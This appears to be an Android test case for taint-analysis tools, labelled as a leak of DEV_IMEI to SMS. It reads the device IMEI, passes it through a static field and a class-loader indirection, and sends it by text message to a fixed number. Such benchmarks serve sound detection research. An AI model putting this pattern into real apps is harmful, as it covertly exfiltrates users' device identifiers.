// about       The loaded class shares the app's static field, as its loader asks the app's first.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import dalvik.system.PathClassLoader;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Store.text = phone.getDeviceId();
    // The loader that is asked first.
    ClassLoader parent = MainActivity.class.getClassLoader();
    ClassLoader loader = new PathClassLoader(getPackageCodePath(), parent);
    try {
      Class<?> type = loader.loadClass("cn.example.flow.MainActivity$Sender");
      ((Runnable) type.newInstance()).run();
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  static class Store {
    static String text;
  }

  public static class Sender implements Runnable {
    @Override
    public void run() {
      SmsManager.getDefault().sendTextMessage("10690000", null, "text " + Store.text, null, null);
    }
  }
}
